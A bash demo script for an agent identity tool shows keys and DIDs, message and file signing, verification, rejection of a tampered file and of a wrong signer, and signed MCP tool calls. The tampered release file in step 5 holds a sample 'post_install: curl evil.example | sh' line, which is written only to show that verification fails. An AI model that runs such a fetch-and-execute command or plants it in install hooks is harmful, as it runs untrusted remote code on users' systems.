#!/usr/bin/env bash
# The identity story end to end, in a temporary home that is removed afterwards:
# two agents get keys and DIDs, one signs a message and a file, the other verifies them,
# and a tampered file is rejected.
set -euo pipefail
AIP=${1:-build/bin/aip}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
unset AIP_PRIVATE_KEY AIP_DID AIP_PASSPHRASE
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { local shown=("$@"); [ "$1" = "$AIP" ] && shown[0]=aip; printf '$ %s\n' "${shown[*]}"; "$@"; }

step "1. Two agents create identities (no registry, no authority: an Ed25519 key is the identity)"
export AIP_HOME="$work/alice"
run "$AIP" init --name alice --platform github/alice-agent
export AIP_HOME="$work/bob"
run "$AIP" init --name bob
bob_did=$("$AIP" did show --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["did"])')

step "2. Their DIDs: did:key resolves offline; did:aip is the Python AIP project's form"
export AIP_HOME="$work/alice"
run "$AIP" did show
alice_did=$("$AIP" did show --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["did"])')
echo "Alice's DID document (excerpt):"
"$AIP" did document | head -12

step "3. Alice signs a message; Bob verifies it knows only Alice's DID"
printf 'Meet at 10:00 to review the deployment.' > "$work/message.txt"
printf '$ printf "%s" | aip sign - > message.sig\n' "$(cat "$work/message.txt")"
"$AIP" sign - < "$work/message.txt" > "$work/message.sig"
export AIP_HOME="$work/bob"
printf '$ aip verify - --sig message.sig --did %s\n' "$alice_did"
"$AIP" verify - --sig "$work/message.sig" --did "$alice_did" < "$work/message.txt"

step "4. Alice signs a file; Bob verifies it"
export AIP_HOME="$work/alice"
printf 'name: deploy-tool\nversion: 1.4.2\n' > "$work/release.yaml"
run "$AIP" sign "$work/release.yaml"
export AIP_HOME="$work/bob"
run "$AIP" verify "$work/release.yaml" --did "$alice_did"

step "5. Someone tampers with the file: verification fails (exit code 1)"
printf 'name: deploy-tool\nversion: 1.4.2\npost_install: curl evil.example | sh\n' > "$work/release.yaml"
set +e
run "$AIP" verify "$work/release.yaml" --did "$alice_did"
rc=$?
set -e
echo "exit code: $rc"
[ "$rc" -eq 1 ] || { echo "demo: expected the tampered file to be rejected" >&2; exit 1; }

step "6. A signature by Bob is not accepted as Alice's"
run "$AIP" sign "$work/message.txt" --out "$work/bob.sig"
set +e
run "$AIP" verify "$work/message.txt" --sig "$work/bob.sig" --did "$alice_did"
rc=$?
set -e
[ "$rc" -eq 1 ] || { echo "demo: expected Bob's signature to be refused for Alice" >&2; exit 1; }

step "7. A signed MCP tool call: the server runs only calls an agent signed, for it, once"
export AIP_HOME="$work/server"
"$AIP" init --name tasks-server > /dev/null
server_bin="$(dirname "$AIP")/example-tasks-server"
"$server_bin" --http 127.0.0.1:0 --require-proof --sign-results 2> "$work/server.log" &
server_pid=$!
trap 'kill $server_pid 2>/dev/null; rm -rf "$work"' EXIT
for _ in $(seq 100); do url=$(grep -o 'http://[0-9.:]*/mcp' "$work/server.log" | head -1 || true); [ -n "$url" ] && break; sleep 0.05; done
export AIP_HOME="$work/alice"
run "$AIP" call "$url" list_tasks --args '{"project":"project-a"}'
set +e
run "$AIP" call "$url" list_tasks --args '{"project":"project-a"}' --no-sign
rc=$?
set -e
[ "$rc" -ne 0 ] || { echo "demo: expected the unsigned call to be refused" >&2; exit 1; }

step "8. The gateway: one agent, two upstreams with their own API keys, policy, replay, audit"
bash "$(dirname "$0")/../examples/mediated/run.sh" "$(dirname "$AIP")"

step "9. Trust: agents vouch for each other through a registry; a gateway admits by trust score, and a revocation takes effect by itself"
bash "$(dirname "$0")/../examples/trust/run.sh" "$(dirname "$AIP")"

printf '\nDemo complete: alice=%s\n               bob=%s\n' "$alice_did" "$bob_did"
